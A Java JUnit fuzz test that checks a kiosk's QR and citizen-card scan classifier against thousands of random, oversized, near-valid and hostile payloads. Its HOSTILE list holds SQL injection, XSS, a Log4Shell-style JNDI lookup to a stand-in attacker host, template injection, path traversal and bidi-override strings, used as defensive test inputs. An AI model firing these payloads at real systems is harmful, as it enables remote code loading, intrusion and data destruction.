// Thousands of hostile, broken and near-valid payloads: the classifier answers every one and never throws.
package vn.kiosk.app.scan;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.text.Normalizer;
import java.time.Clock;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

import org.junit.jupiter.api.Test;

import vn.kiosk.app.scan.ScanResult.Unsupported;
import vn.kiosk.app.scan.ScanResult.Unsupported.Reason;

class ScanClassifierFuzzTest {

    private static final long SEED = 20_261_123L;
    private static final int ROUNDS = 12_000;
    private static final LocalDate TODAY = LocalDate.of(2026, 11, 23);

    private static final List<String> HOSTILE = List.of(
            "'; DROP TABLE tickets; --", "\" OR 1=1 --", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
            "javascript:alert(1)", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "../../etc/passwd", "%00",
            "%%%", "%E2%80%AE", "\\u0000", "&#x202E;", "|", "||||||||", "\u202E", "\u202D", "\u2066", "\u2069",
            "\u200F", "\u200B", "\uFEFF", "\u00A0", "\u0301\u0301\u0301", "\uD83D\uDE00", "ｈｔｔｐｓ",
            "０３８０９０", "١٢٣", "https://", "http://@", "https://dichvucong.gov.vn/?keyword=", "/follow/");
    private static final List<String> BAD_FIELDS = List.of("", " ", "abc", "0", "1234567890123", "99999999",
            "00000000", "31022000", "32012000", "01132000", "29022001", "01011899", "01012999", "1.001193",
            "'; DROP TABLE x; --", "<script>", "\u202E12345678", "١٢٣٤٥٦٧٨", "0101 1990");

    private final ScanClassifier classifier =
            new ScanClassifier("https://kiosk.local/", ShippedCatalog.CATALOG,
                    Clock.fixed(Instant.parse("2026-11-23T02:00:00Z"), ZoneOffset.UTC),
                    ScanClassifierTest.VIETNAM);
    private final Random random = new Random(SEED);
    private final SyntheticCards cards = new SyntheticCards(SEED, TODAY);
    private final Map<Reason, Integer> reasons = new EnumMap<>(Reason.class);
    private int citizenCards;
    private int checked;

    @Test
    void everyPayloadGetsExactlyOneResultAndNothingThrows() {
        for (int i = 0; i < ROUNDS; i++) {
            int kind = i % 8;
            switch (kind) {
                case 0 -> randomBytes(i);
                case 1 -> hugeLine(i);
                case 2 -> controlAndBidi(i);
                case 3 -> pipesEverywhere(i);
                case 4 -> injection(i);
                case 5 -> nearValidCard(i);
                case 6 -> validCard(i);
                default -> links(i);
            }
        }
        assertThat(checked).isGreaterThanOrEqualTo(10_000);
        // The mix reaches every outcome, so the fuzzing is not stuck in one corner.
        assertThat(reasons.keySet()).containsExactlyInAnyOrder(Reason.values());
        assertThat(citizenCards).isPositive();
    }

    private ScanResult classify(String payload, int round) {
        ScanResult result = classifier.classify(payload);
        checked++;
        assertThat(result).as("round %d", round).isNotNull();
        if (result instanceof Unsupported(Reason reason)) {
            reasons.merge(reason, 1, Integer::sum);
        } else if (result instanceof ScanResult.CitizenCard) {
            citizenCards++;
        }
        if (payload == null || payload.isBlank()) {
            assertThat(result).as("round %d", round).isEqualTo(new Unsupported(Reason.EMPTY));
        } else if (payload.length() > ScanClassifier.MAX_LENGTH) {
            assertThat(result).as("round %d", round).isEqualTo(new Unsupported(Reason.TOO_LONG));
        }
        return result;
    }

    private void randomBytes(int round) {
        byte[] bytes = new byte[random.nextInt(400)];
        random.nextBytes(bytes);
        String payload = new String(bytes, StandardCharsets.UTF_8);
        ScanResult result = classify(payload, round);
        if (!payload.isBlank() && payload.indexOf('\uFFFD') >= 0) {
            assertThat(result).as("round %d", round).isEqualTo(new Unsupported(Reason.BINARY));
        }
    }

    private void hugeLine(int round) {
        if (round % 80 != 1) {
            // Mostly lines just around the limit; a full 100 KB line now and then keeps the test quick.
            int length = ScanClassifier.MAX_LENGTH - 2 + random.nextInt(5);
            classify(cards.next().payload() + "|" + "x".repeat(Math.max(0, length - 120)), round);
            return;
        }
        StringBuilder b = new StringBuilder(100 * 1024);
        while (b.length() < 100 * 1024) {
            b.append(random.nextBoolean() ? cards.next().payload() : HOSTILE.get(random.nextInt(HOSTILE.size())));
        }
        assertThat(classify(b.toString(), round)).isEqualTo(new Unsupported(Reason.TOO_LONG));
    }

    private void controlAndBidi(int round) {
        StringBuilder b = new StringBuilder();
        int n = 1 + random.nextInt(60);
        for (int j = 0; j < n; j++) {
            switch (random.nextInt(4)) {
                case 0 -> b.append((char) random.nextInt(0x20));
                case 1 -> b.append("\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069\u200E\u200F\u061C"
                        .charAt(random.nextInt(12)));
                case 2 -> b.append((char) (0x7F + random.nextInt(0x21)));
                default -> b.appendCodePoint(0x20 + random.nextInt(0x2FF));
            }
        }
        classify(b.toString(), round);
    }

    private void pipesEverywhere(int round) {
        String card = cards.next().payload();
        int at = round / 8 % (card.length() + 1);
        String payload = random.nextBoolean()
                ? card.substring(0, at) + "|" + card.substring(at)
                : card.substring(0, Math.min(at, card.length() - 1)) + "|" + card.substring(Math.min(at + 1, card.length()));
        ScanResult result = classify(payload, round);
        assertThat(result).as("round %d", round).isInstanceOfAny(ScanResult.CitizenCard.class, Unsupported.class);
    }

    private void injection(int round) {
        String hostile = HOSTILE.get(random.nextInt(HOSTILE.size())) + HOSTILE.get(random.nextInt(HOSTILE.size()));
        String payload = switch (random.nextInt(4)) {
            case 0 -> hostile;
            case 1 -> cards.next().withField(random.nextInt(7), hostile);
            case 2 -> "https://dichvucong.gov.vn/dvc-ket-qua-thu-tuc?keyword=" + hostile;
            default -> "https://kiosk.local/follow/" + hostile;
        };
        classify(payload, round);
    }

    private void nearValidCard(int round) {
        SyntheticCards.Card card = cards.next();
        String payload;
        switch (random.nextInt(6)) {
            case 0 -> payload = card.withField(0, BAD_FIELDS.get(random.nextInt(BAD_FIELDS.size())));
            case 1 -> payload = card.withField(1, "12345678".substring(random.nextInt(8)) + "x");
            case 2 -> payload = card.withField(3, BAD_FIELDS.get(random.nextInt(BAD_FIELDS.size())));
            case 3 -> payload = card.withField(6, BAD_FIELDS.get(random.nextInt(BAD_FIELDS.size())));
            case 4 -> {
                // Flip the century digit to a wrong century.
                char c = card.id().charAt(3);
                char wrong = (char) ('0' + (c - '0' + 2 + 2 * random.nextInt(3)) % 10);
                payload = card.withField(0, card.id().substring(0, 3) + wrong + card.id().substring(4));
            }
            default -> {
                boolean female = (card.id().charAt(3) - '0') % 2 == 1;
                String wrong = female ? "Nam" : "Nữ";
                payload = card.withField(4, random.nextBoolean() ? wrong
                        : Normalizer.normalize(wrong, Normalizer.Form.NFD));
            }
        }
        assertThat(classify(payload, round)).as("round %d", round).isEqualTo(new Unsupported(Reason.INVALID_CARD));
    }

    private void validCard(int round) {
        SyntheticCards.Card card = cards.next();
        String payload = random.nextBoolean() ? card.payload()
                : Normalizer.normalize(card.payload(), Normalizer.Form.NFD);
        if (random.nextInt(4) == 0) {
            payload += "|" + HOSTILE.get(random.nextInt(HOSTILE.size()));
        }
        assertThat(classify(payload, round)).as("round %d", round)
                .isEqualTo(new ScanResult.CitizenCard(card.ageAt(TODAY)));
    }

    private void links(int round) {
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_+/=%.?#|";
        StringBuilder token = new StringBuilder();
        int length = 20 + random.nextInt(5);
        for (int j = 0; j < length; j++) {
            token.append(alphabet.charAt(random.nextInt(random.nextBoolean() ? 64 : alphabet.length())));
        }
        String payload = switch (random.nextInt(3)) {
            case 0 -> "https://kiosk-" + random.nextInt(99) + ".local/follow/" + token;
            case 1 -> "https://dichvucong.gov.vn/dvc-ket-qua-thu-tuc?keyword=" + random.nextInt(4) + "."
                    + String.format("%06d", random.nextInt(1_000_000));
            default -> "https://dichvucong.gov.vn/thu-tuc-hanh-chinh/" + token;
        };
        ScanResult result = classify(payload, round);
        if (token.toString().matches("[A-Za-z0-9_-]{22}") && payload.contains("/follow/")) {
            assertThat(result).as("round %d", round).isEqualTo(new ScanResult.OurTicket(token.toString()));
        }
    }
}
